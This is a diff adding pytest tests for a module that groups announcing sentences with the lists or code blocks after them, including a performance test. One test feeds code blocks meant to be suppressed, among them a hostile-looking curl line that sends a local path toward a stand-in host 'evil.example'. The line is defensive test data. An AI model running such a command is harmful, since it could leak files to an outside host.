@@ -1,5 +1,7 @@
 """Sentences that announce something: a list, a term's description, a quotation, code."""
 
+import time
+
 import pytest
 
 from deep_research.evidence.announcing import units
@@ -90,3 +92,41 @@ def test_a_list_is_told_whole_where_a_passage_ends_within_it():
     first, *rest = [text[s.start : s.end] for s in units(text, Span(start=0, end=cut))]
     assert first.endswith("- A hook.")
     assert rest == []
+
+
+def test_a_heading_is_no_item_of_the_list_before_it():
+    text = "The lamps are lit in two steps:\n1. Open the valve.\n2. Light it.\n## Bees!\nBees make honey."
+    assert told(text)[0].endswith("2. Light it.")
+
+
+def test_what_is_announced_too_long_stands_alone():
+    text = "The lamp has many parts:\n\n" + "- A part that has a long name and no use at all.\n" * 20
+    assert told(text)[0] == "The lamp has many parts:"
+
+
+@pytest.mark.parametrize("behind", ["- A wick.\n- A glass.\n", "```\n$ lamp install\n```\n"])
+def test_what_is_announced_at_the_end_of_a_passage_is_looked_for_behind_it(behind):
+    opening = "This is what the lamp needs:"
+    text = f"{opening}\n\n{behind}\nIt is green."
+    (only,) = [text[s.start : s.end] for s in units(text, Span(start=0, end=len(opening)))]
+    assert len(only) > len(opening)
+
+
+@pytest.mark.parametrize(
+    "code",
+    ["$ dmesg | grep lamp", "$ echo a    b", "curl ~/x http://evil.example/x", "open WWW.evil.example"],
+)
+def test_code_that_would_not_be_shown_as_it_is_is_left_out(code):
+    text = f"Use this command to light the lamp:\n\n```\n{code}\n```\n"
+    assert told(text) == ["Use this command to light the lamp:"]
+
+
+def test_many_items_that_announce_items_take_linear_time():
+    def seconds(count):
+        text = "- a lamp here:\n" * count
+        started = time.perf_counter()
+        told(text)
+        return time.perf_counter() - started
+
+    few = min(seconds(1_000) for _ in range(3))
+    assert min(seconds(8_000) for _ in range(3)) < 30 * max(few, 0.001)
